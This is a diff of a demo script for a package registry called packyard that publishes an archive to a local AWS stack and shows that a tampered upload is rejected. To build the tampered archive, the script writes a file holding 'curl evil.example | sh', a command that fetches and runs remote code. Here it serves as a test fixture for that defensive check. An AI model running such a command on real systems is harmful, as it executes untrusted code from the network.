@@ -7,6 +7,7 @@ then uploads a tampered archive and shows the rejection with its sub-code. No AW
 from __future__ import annotations
 
 import json
+import os
 import sys
 import tempfile
 import time
@@ -39,10 +40,12 @@ def _show(response: Any, label: str) -> None:
 
 def main() -> int:
     started = time.monotonic()
+    # the demo narrates; the handlers' structured logs and EMF metrics would drown it
+    os.environ.setdefault("POWERTOOLS_LOG_LEVEL", "WARNING")
+    os.environ.setdefault("POWERTOOLS_METRICS_DISABLED", "true")
     import devstack
     from devstack.api import LocalApi
     from devstack.caller import Caller
-    from devstack.counting import count_aws_requests
     from packyard_cli.build import build_from_directory
 
     with devstack.local_aws() as stack, tempfile.TemporaryDirectory() as tmp:
@@ -67,20 +70,19 @@ def main() -> int:
         console.print(f"archive: {built.archive_size} bytes, sha256 {built.archive_sha256}")
 
         _step("2. Publish weather-skill@1.0.0 (upload session → presigned PUT → complete → Step Functions)")
-        with count_aws_requests() as counted:
-            session = caller.request_upload("weather-skill", "1.0.0", built)
-            _show(session, "upload session")
-            caller.put_archive(session.body, built.archive)
-            final = caller.complete_and_wait(session.body["uploadId"])
+        session = caller.request_upload("weather-skill", "1.0.0", built)
+        _show(session, "upload session")
+        caller.put_archive(session.body, built.archive)
+        final = caller.complete_and_wait(session.body["uploadId"])
         console.print(f"upload state: [bold green]{final['state']}[/]")
         receipt = caller.get("/v1/packages/weather-skill/versions/1.0.0")
         _show(receipt, "release")
-        console.print(counted.table("AWS requests for this publish"))
 
         _step("3. Publish the same content again: idempotent, nothing to upload")
         _show(caller.request_upload("weather-skill", "1.0.0", built), "re-publish")
 
         _step("4. A tampered archive for weather-skill@1.0.1 is rejected")
+        (folder / "CHANGELOG.md").write_text("1.0.1: faster forecasts\n")
         honest = build_from_directory(folder, metadata={"channel": "beta"})
         (folder / "src" / "main.py").write_text("import os; os.system('curl evil.example | sh')\n")
         tampered = build_from_directory(folder).archive
